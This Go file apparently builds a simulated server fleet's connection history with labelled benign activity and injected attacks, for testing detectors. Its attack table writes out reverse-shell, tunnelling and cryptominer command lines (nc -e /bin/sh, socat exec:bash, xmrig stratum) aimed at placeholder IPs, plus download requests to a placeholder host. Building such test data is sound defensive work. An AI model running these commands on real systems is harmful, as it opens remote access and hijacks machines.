// Package sim generates a fleet's outbound connections with ground truth, for measuring
// detection quality: hosts with roles, daemons with their usual destinations, scheduled jobs
// (hourly, daily, weekly, monthly), software rollouts, loopback chatter, and injected attacks
// of several kinds. The same Spec and seed always give the same events and labels.
package sim

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"time"
)

// Label classes. Attacks are what a detector must find; the benign classes name what is new
// or rare but harmless, so false signals can be explained.
const (
	ClassNeverSeenTool = "never-seen-tool" // a tool the fleet never ran (reverse shell, miner)
	ClassReusedName    = "reused-name"     // a common process name, used where it never ran
	ClassRollout       = "benign-rollout"  // new software on many hosts at once
	ClassSchedule      = "benign-schedule" // a periodic job
	ClassLoopback      = "benign-loopback" // a process talking only to loopback
	// ClassFleet is the first line of a labels file: the fleet's size, not a behaviour.
	ClassFleet = "fleet"
)

// IsAttack reports whether a label class is an attack.
func IsAttack(class string) bool { return class == ClassNeverSeenTool || class == ClassReusedName }

// Label is the ground truth of one injected behaviour.
type Label struct {
	ID     string    `json:"id"`
	Class  string    `json:"class"`
	Name   string    `json:"process.name"`
	Hosts  []string  `json:"host.name"`
	Start  time.Time `json:"start"`
	Detail string    `json:"detail,omitempty"`
	// HostDays is set on the fleet line only.
	HostDays float64 `json:"host_days,omitempty"`
}

// WriteLabels writes the fleet line, then every label, as NDJSON.
func (f *Fleet) WriteLabels(w io.Writer) error {
	enc := json.NewEncoder(w)
	if err := enc.Encode(Label{ID: "fleet", Class: ClassFleet, HostDays: f.HostDays(),
		Detail: fmt.Sprintf("seed=%d hosts=%d days=%d", f.Spec.Seed, f.Spec.Hosts, f.Spec.Days)}); err != nil {
		return err
	}
	for _, l := range f.Labels {
		if err := enc.Encode(l); err != nil {
			return err
		}
	}
	return nil
}

// Spec describes a simulated fleet.
type Spec struct {
	Seed    uint64
	Start   time.Time
	Days    int
	Hosts   int
	Attacks int // attacks per class
	// Warmup is how long before the first attack: the model needs history.
	Warmup time.Duration
}

// DefaultSpec is a two-week history of a 24-host fleet with 4 attacks of each class.
func DefaultSpec(seed uint64) Spec {
	return Spec{Seed: seed, Start: time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC), Days: 14, Hosts: 24, Attacks: 4, Warmup: 72 * time.Hour}
}

// daemon is a process that uses the network as part of a role's normal operation.
type daemon struct {
	name, exe, user string
	uid             int
	ports           []int
	every           float64 // fraction of buckets in which it connects
	public          bool    // talks to public addresses too
}

var common = []daemon{
	{"sshd", "/usr/sbin/sshd", "root", 0, []int{22}, 0.6, false},
	{"systemd-resolve", "/lib/systemd/systemd-resolved", "systemd-resolve", 101, []int{53}, 1, false},
	{"chronyd", "/usr/sbin/chronyd", "_chrony", 105, []int{123}, 0.9, true},
	{"node_exporter", "/usr/local/bin/node_exporter", "prometheus", 998, []int{9090}, 0.8, false},
	{"rsyslogd", "/usr/sbin/rsyslogd", "syslog", 104, []int{514}, 0.7, false},
	{"salt-minion", "/usr/bin/salt-minion", "root", 0, []int{4505, 4506}, 0.9, false},
	{"unattended-upgr", "/usr/bin/python3.11", "root", 0, []int{443}, 0.3, true},
	{"apt-get", "/usr/bin/apt-get", "root", 0, []int{80, 443}, 0.3, true},
	{"zabbix_agentd", "/usr/sbin/zabbix_agentd", "zabbix", 112, []int{10051}, 0.9, false},
	{"containerd", "/usr/bin/containerd", "root", 0, []int{443}, 0.4, true},
	{"sssd_be", "/usr/libexec/sssd/sssd_be", "root", 0, []int{389, 636}, 0.6, false},
	{"fluent-bit", "/opt/fluent-bit/bin/fluent-bit", "root", 0, []int{24224}, 0.8, false},
}

// roles and their daemons; a host has one role.
var roles = map[string][]daemon{
	"web": {
		{"nginx", "/usr/sbin/nginx", "www-data", 33, []int{8080, 8443}, 1, false},
		{"php-fpm8.2", "/usr/sbin/php-fpm8.2", "www-data", 33, []int{3306, 6379}, 0.9, false},
		{"node", "/usr/bin/node", "app", 1002, []int{443, 6379}, 0.8, true},
		{"haproxy", "/usr/sbin/haproxy", "haproxy", 116, []int{8080}, 1, false},
	},
	"db": {
		{"postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", 114, []int{5432}, 0.8, false},
		{"mysqld", "/usr/sbin/mysqld", "mysql", 122, []int{3306}, 0.6, false},
		{"redis-server", "/usr/bin/redis-server", "redis", 115, []int{6379}, 0.7, false},
		{"pgbackrest", "/usr/bin/pgbackrest", "postgres", 114, []int{443}, 0.2, true},
	},
	"worker": {
		{"python3", "/usr/bin/python3.11", "app", 1002, []int{443, 5432, 6379}, 0.9, true},
		{"celery", "/usr/bin/celery", "app", 1002, []int{5672, 6379}, 0.9, false},
		{"java", "/usr/lib/jvm/java-17/bin/java", "app", 1002, []int{9092, 5432, 443}, 1, true},
		{"curl", "/usr/bin/curl", "app", 1002, []int{443}, 0.5, true},
	},
	"ops": {
		{"ssh", "/usr/bin/ssh", "deploy", 1001, []int{22}, 0.7, false},
		{"git", "/usr/bin/git", "deploy", 1001, []int{22, 443}, 0.5, true},
		{"ansible-playboo", "/usr/bin/python3.11", "deploy", 1001, []int{22}, 0.3, false},
		{"wget", "/usr/bin/wget", "deploy", 1001, []int{443}, 0.3, true},
		{"curl", "/usr/bin/curl", "deploy", 1001, []int{443}, 0.6, true},
	},
}

var roleOrder = []string{"web", "db", "worker", "ops"}

// job is a scheduled process: it connects only when it runs.
type job struct {
	name, exe, user, class string
	uid                    int
	port                   int
	period                 string // hourly, daily, weekly, monthly
	role                   string // "" for every host
}

var jobs = []job{
	{"puppet", "/opt/puppetlabs/bin/puppet", "root", ClassSchedule, 0, 8140, "hourly", ""},
	{"rclone", "/usr/bin/rclone", "root", ClassSchedule, 0, 443, "daily", "db"},
	{"certbot", "/usr/bin/certbot", "root", ClassSchedule, 0, 443, "weekly", "web"},
	{"lynis", "/usr/sbin/lynis", "root", ClassSchedule, 0, 443, "monthly", ""},
}

// tools are never-seen attack tools, with the arguments an intruder would give them.
var tools = []struct {
	name, exe string
	port      int
	args      []string
}{
	{"nc", "/usr/bin/nc.openbsd", 4444, []string{"nc", "-e", "/bin/sh"}},
	{"socat", "/usr/bin/socat", 443, []string{"socat", "exec:bash -li,pty,stderr", "tcp:"}},
	{"perl", "/usr/bin/perl", 4444, []string{"perl", "-e", "use Socket;..."}},
	{"xmrig", "/tmp/.cache/xmrig", 3333, []string{"xmrig", "-o", "stratum+tcp://"}},
	{"kworkerds", "/tmp/.X11-unix/kworkerds", 3333, []string{"kworkerds"}},
	{"kdevtmpfsi", "/tmp/kdevtmpfsi", 3333, []string{"kdevtmpfsi"}},
	{"ncat", "/usr/bin/ncat", 8443, []string{"ncat", "--ssl"}},
	{"chisel", "/dev/shm/chisel", 443, []string{"chisel", "client"}},
}

// Fleet is a simulated history: its events in time order and the ground truth.
type Fleet struct {
	Spec   Spec
	Hosts  []Host
	Events []Event
	Labels []Label
}

// Host is a simulated host.
type Host struct{ Name, Role string }

// HostDays is the fleet's size in host-days, the unit of false-signal rates.
func (f *Fleet) HostDays() float64 { return float64(f.Spec.Hosts * f.Spec.Days) }

const bucket = 15 * time.Minute

// Simulate generates the fleet.
func Simulate(s Spec) *Fleet {
	rng := rand.New(rand.NewPCG(s.Seed, s.Seed*0x9e3779b97f4a7c15+1))
	f := &Fleet{Spec: s}
	for i := range s.Hosts {
		role := roleOrder[i%len(roleOrder)]
		f.Hosts = append(f.Hosts, Host{fmt.Sprintf("%s-%02d", role, i/len(roleOrder)+1), role})
	}
	buckets := s.Days * 24 * 4
	end := s.Start.Add(time.Duration(buckets) * bucket)
	at := func(b int) time.Time {
		return s.Start.Add(time.Duration(b)*bucket + time.Duration(rng.Int64N(int64(bucket)))).Truncate(time.Millisecond)
	}
	dest := func(h, i int, public bool) string {
		if public && rng.IntN(3) == 0 {
			return fmt.Sprintf("151.101.%d.%d", i%64, 1+rng.IntN(4)) // a few public services per daemon
		}
		return fmt.Sprintf("10.%d.%d.%d", 10+i%20, h%16, 1+rng.IntN(20))
	}
	for b := range buckets {
		for h, host := range f.Hosts {
			ds := append(slices.Clone(common), roles[host.Role]...)
			for i, d := range ds {
				if rng.Float64() >= d.every {
					continue
				}
				f.Events = append(f.Events, Event{Time: at(b), Host: host.Name, Name: d.name, Exe: d.exe, User: d.user, UID: d.uid,
					PID: 1000 + 31*i + h, DestIP: dest(h, i, d.public), Port: d.ports[rng.IntN(len(d.ports))],
					Args: []string{d.exe}, Cwd: "/", Outcome: "success"})
			}
			// Loopback chatter: db hosts ping their local redis; it must never signal.
			if host.Role == "db" && rng.IntN(6) == 0 {
				f.Events = append(f.Events, Event{Time: at(b), Host: host.Name, Name: "redis-cli", Exe: "/usr/bin/redis-cli",
					User: "redis", UID: 115, PID: 7000 + h, DestIP: "127.0.0.1", Port: 6379, Args: []string{"redis-cli", "ping"}, Cwd: "/", Outcome: "success"})
			}
		}
	}
	f.Labels = append(f.Labels, Label{ID: "loopback-redis-cli", Class: ClassLoopback, Name: "redis-cli", Hosts: f.hostsOf("db"), Start: s.Start})
	f.scheduled(end)
	f.rollout(rng)
	f.attacks(rng)
	slices.SortStableFunc(f.Events, func(a, b Event) int { return a.Time.Compare(b.Time) })
	slices.SortStableFunc(f.Labels, func(a, b Label) int { return a.Start.Compare(b.Start) })
	return f
}

func (f *Fleet) hostsOf(role string) []string {
	var out []string
	for _, h := range f.Hosts {
		if role == "" || h.Role == role {
			out = append(out, h.Name)
		}
	}
	return out
}

// scheduled adds the periodic jobs, each run labelled.
func (f *Fleet) scheduled(end time.Time) {
	for _, j := range jobs {
		hosts := f.hostsOf(j.role)
		var runs []time.Time
		switch j.period {
		case "hourly":
			for t := f.Spec.Start.Add(17 * time.Minute); t.Before(end); t = t.Add(time.Hour) {
				runs = append(runs, t)
			}
		case "daily":
			for t := f.Spec.Start.Add(2*time.Hour + 30*time.Minute); t.Before(end); t = t.Add(24 * time.Hour) {
				runs = append(runs, t)
			}
		case "weekly":
			for t := f.Spec.Start.Add(6*24*time.Hour + 3*time.Hour); t.Before(end); t = t.Add(7 * 24 * time.Hour) {
				runs = append(runs, t)
			}
		case "monthly":
			first := time.Date(f.Spec.Start.Year(), f.Spec.Start.Month(), 1, 4, 0, 0, 0, time.UTC)
			for t := first; t.Before(end); t = t.AddDate(0, 1, 0) {
				if !t.Before(f.Spec.Start) {
					runs = append(runs, t)
				}
			}
			if len(runs) == 0 { // a short history still sees one run, mid-way
				runs = append(runs, f.Spec.Start.Add(end.Sub(f.Spec.Start)/2).Truncate(time.Hour).Add(4*time.Hour))
			}
		}
		for k, t := range runs {
			for h, host := range hosts {
				f.Events = append(f.Events, Event{Time: t.Add(time.Duration(h) * time.Second), Host: host, Name: j.name, Exe: j.exe,
					User: j.user, UID: j.uid, PID: 20000 + k, DestIP: fmt.Sprintf("198.18.%d.%d", len(j.name), 1+h%8), Port: j.port,
					Args: []string{j.exe}, Cwd: "/", Outcome: "success"})
			}
			f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("schedule-%s-%d", j.name, k), Class: ClassSchedule, Name: j.name, Hosts: hosts,
				Start: t, Detail: j.period})
		}
	}
}

// rollout adds one software rollout: a new agent on every host within an hour, then in
// regular use.
func (f *Fleet) rollout(rng *rand.Rand) {
	t0 := f.Spec.Start.Add(f.Spec.Warmup + time.Duration(rng.Int64N(int64(24*time.Hour)))).Truncate(time.Minute)
	end := f.Spec.Start.Add(time.Duration(f.Spec.Days) * 24 * time.Hour)
	name := "falcon-sensor"
	hosts := f.hostsOf("")
	for h, host := range hosts {
		start := t0.Add(time.Duration(rng.Int64N(int64(time.Hour))))
		for t := start; t.Before(end); t = t.Add(bucket) {
			f.Events = append(f.Events, Event{Time: t, Host: host, Name: name, Exe: "/opt/CrowdStrike/falcon-sensor", User: "root",
				PID: 30000 + h, DestIP: "198.51.100.200", Port: 443, Args: []string{"falcon-sensor"}, Cwd: "/", Outcome: "success"})
		}
	}
	f.Labels = append(f.Labels, Label{ID: "rollout-" + name, Class: ClassRollout, Name: name, Hosts: hosts, Start: t0})
}

// attacks injects Spec.Attacks attacks of each class after the warm-up.
func (f *Fleet) attacks(rng *rand.Rand) {
	span := time.Duration(f.Spec.Days)*24*time.Hour - f.Spec.Warmup - 2*time.Hour
	when := func() time.Time {
		return f.Spec.Start.Add(f.Spec.Warmup + time.Duration(rng.Int64N(int64(span)))).Truncate(time.Second)
	}
	order := rng.Perm(len(tools))
	for k := range f.Spec.Attacks {
		tool := tools[order[k%len(tools)]]
		host := f.Hosts[rng.IntN(len(f.Hosts))]
		t := when()
		ip := fmt.Sprintf("203.0.113.%d", 10+k)
		for e := range 1 + rng.IntN(3) {
			f.Events = append(f.Events, Event{Time: t.Add(time.Duration(e) * 7 * time.Second), Host: host.Name, Name: tool.name, Exe: tool.exe,
				User: "www-data", UID: 33, PID: 40000 + k, DestIP: ip, Port: tool.port, Args: append(slices.Clone(tool.args), ip),
				Cwd: "/tmp", Outcome: "success"})
		}
		f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("attack-tool-%d", k), Class: ClassNeverSeenTool, Name: tool.name,
			Hosts: []string{host.Name}, Start: t, Detail: tool.exe})
	}
	// Reused names: a process that is common in the fleet, on a host whose role never runs it,
	// to a destination the fleet never used.
	for k := range f.Spec.Attacks {
		var host Host
		var d daemon
		for {
			host = f.Hosts[rng.IntN(len(f.Hosts))]
			other := roleOrder[rng.IntN(len(roleOrder))]
			if other == host.Role {
				continue
			}
			cands := roles[other]
			d = cands[rng.IntN(len(cands))]
			if !slices.ContainsFunc(roles[host.Role], func(x daemon) bool { return x.name == d.name }) {
				break
			}
		}
		t := when()
		ip := fmt.Sprintf("192.0.2.%d", 10+k)
		f.Events = append(f.Events, Event{Time: t, Host: host.Name, Name: d.name, Exe: d.exe, User: "www-data", UID: 33, PID: 50000 + k,
			DestIP: ip, Port: 443, Args: []string{d.exe, "http://" + ip + "/x"}, Cwd: "/tmp", Outcome: "success"})
		f.Labels = append(f.Labels, Label{ID: fmt.Sprintf("attack-reuse-%d", k), Class: ClassReusedName, Name: d.name,
			Hosts: []string{host.Name}, Start: t, Detail: "usually on " + roleOf(d.name) + " hosts"})
	}
}

func roleOf(name string) string {
	for _, r := range roleOrder {
		if slices.ContainsFunc(roles[r], func(d daemon) bool { return d.name == name }) {
			return r
		}
	}
	return "other"
}
